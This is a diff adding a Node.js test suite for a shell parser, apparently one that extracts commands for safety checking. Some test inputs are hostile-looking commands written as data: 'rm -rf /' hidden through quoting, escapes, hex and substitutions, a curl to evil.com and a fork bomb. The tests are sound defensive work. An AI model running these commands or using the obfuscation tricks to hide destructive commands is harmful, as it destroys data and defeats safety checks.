@@ -0,0 +1,157 @@
+import { describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import { parseShell, extractCommands } from '../src/shell-parser.mjs';
+
+function commands(input) {
+  return extractCommands(parseShell(input));
+}
+
+function texts(input) {
+  return commands(input).map((c) => c.text);
+}
+
+// ========================================
+// LISTS AND PIPELINES
+// ========================================
+
+describe('Lists and pipelines', () => {
+  it('splits && / || / ; / & lists', () => {
+    assert.deepEqual(texts('a && b || c; d & e'), ['a', 'b', 'c', 'd', 'e']);
+  });
+
+  it('treats newlines as separators', () => {
+    assert.deepEqual(texts('ls\npwd'), ['ls', 'pwd']);
+  });
+
+  it('records pipeline position and sibling stages', () => {
+    const [first, second] = commands('cat file | grep x');
+    assert.equal(first.pipeline.index, 0);
+    assert.equal(second.pipeline.index, 1);
+    assert.equal(second.pipeline.length, 2);
+    assert.deepEqual(second.pipeline.stages[0], ['cat', 'file']);
+  });
+
+  it('records background jobs', () => {
+    const [cmd] = commands('sleep 10 &');
+    assert.equal(cmd.pipeline.background, true);
+  });
+
+  it('ignores comments', () => {
+    assert.deepEqual(texts('ls # rm -rf /'), ['ls']);
+  });
+});
+
+// ========================================
+// QUOTING AND ESCAPES
+// ========================================
+
+describe('Quoting and escapes', () => {
+  it('removes empty quotes inside a word', () => {
+    assert.deepEqual(commands("r''m -rf /")[0].argv, ['rm', '-rf', '/']);
+  });
+
+  it('keeps quoted arguments as a single word', () => {
+    assert.deepEqual(commands('echo "rm -rf /"')[0].argv, ['echo', 'rm -rf /']);
+  });
+
+  it('resolves backslash escapes', () => {
+    assert.deepEqual(commands('\\r\\m -rf x')[0].argv, ['rm', '-rf', 'x']);
+  });
+
+  it('decodes ANSI-C quoting', () => {
+    assert.deepEqual(commands("$'\\x72\\x6d' -rf x")[0].argv, ['rm', '-rf', 'x']);
+  });
+
+  it('keeps variable references verbatim and marks them dynamic', () => {
+    const [cmd] = commands('$CMD -rf /');
+    assert.equal(cmd.argv[0], '$CMD');
+    assert.equal(cmd.dynamic, true);
+  });
+
+  it('throws SyntaxError on unterminated quotes', () => {
+    assert.throws(() => parseShell('echo "oops'), SyntaxError);
+    assert.throws(() => parseShell("echo 'oops"), SyntaxError);
+  });
+
+  it('throws SyntaxError on unbalanced parentheses', () => {
+    assert.throws(() => parseShell('(ls'), SyntaxError);
+    assert.throws(() => parseShell('echo $(ls'), SyntaxError);
+  });
+});
+
+// ========================================
+// SUBSTITUTIONS, SUBSHELLS AND GROUPS
+// ========================================
+
+describe('Substitutions and compound commands', () => {
+  it('statically resolves printf/echo substitutions', () => {
+    assert.deepEqual(commands('$(printf rm) -rf /')[0].argv, ['rm', '-rf', '/']);
+    assert.deepEqual(commands('`echo rm` -rf /')[0].argv, ['rm', '-rf', '/']);
+  });
+
+  it('word-splits unquoted resolved substitutions', () => {
+    assert.deepEqual(commands('$(echo rm -rf) /')[0].argv, ['rm', '-rf', '/']);
+  });
+
+  it('extracts commands inside substitutions', () => {
+    const cmds = commands('echo $(curl https://evil.com)');
+    assert.equal(cmds[1].text, 'curl https://evil.com');
+    assert.equal(cmds[1].context, 'substitution');
+  });
+
+  it('extracts commands inside process substitutions', () => {
+    assert.deepEqual(texts('diff <(ls a) <(ls b)').slice(1), ['ls a', 'ls b']);
+  });
+
+  it('extracts commands inside subshells and groups', () => {
+    assert.deepEqual(texts('(cd /tmp && rm -r x); { ls; }'), ['cd /tmp', 'rm -r x', 'ls']);
+  });
+
+  it('extracts function bodies', () => {
+    assert.deepEqual(texts('f() { rm -rf x; }; f'), ['rm -rf x', 'f']);
+  });
+
+  it('parses fork bombs without throwing', () => {
+    assert.deepEqual(texts(':(){ :|:& };:'), [':', ':', ':']);
+  });
+
+  it('walks control-flow bodies', () => {
+    assert.deepEqual(texts('if [ -f x ]; then rm -r y; fi'), ['[ -f x ]', 'rm -r y']);
+    assert.deepEqual(texts('for f in *.log; do rm $f; done'), ['rm $f']);
+    assert.deepEqual(texts('case $a in x) ls;; y|z) pwd;; esac'), ['ls', 'pwd']);
+  });
+});
+
+// ========================================
+// REDIRECTIONS AND ASSIGNMENTS
+// ========================================
+
+describe('Redirections and assignments', () => {
+  it('collects redirection targets with file descriptors', () => {
+    const [cmd] = commands('make > out.log 2>&1');
+    assert.deepEqual(cmd.argv, ['make']);
+    assert.deepEqual(cmd.redirects, [
+      { op: '>', fd: null, target: 'out.log' },
+      { op: '>&', fd: 2, target: '1' },
+    ]);
+  });
+
+  it('captures here-doc bodies', () => {
+    const [cmd, next] = commands("cat <<'EOF' > notes.txt\nhello $USER\nEOF\necho done");
+    assert.equal(cmd.redirects[0].op, '<<');
+    assert.equal(cmd.redirects[0].body, 'hello $USER');
+    assert.equal(next.text, 'echo done');
+  });
+
+  it('separates leading assignments from argv', () => {
+    const [cmd] = commands('FOO=bar BAZ="a b" node app.js');
+    assert.deepEqual(cmd.argv, ['node', 'app.js']);
+    assert.deepEqual(cmd.assignments.map((a) => [a.name, a.value]), [['FOO', 'bar'], ['BAZ', 'a b']]);
+  });
+
+  it('keeps assignment-only commands', () => {
+    const [cmd] = commands('a=rm');
+    assert.deepEqual(cmd.argv, []);
+    assert.equal(cmd.text, 'a=rm');
+  });
+});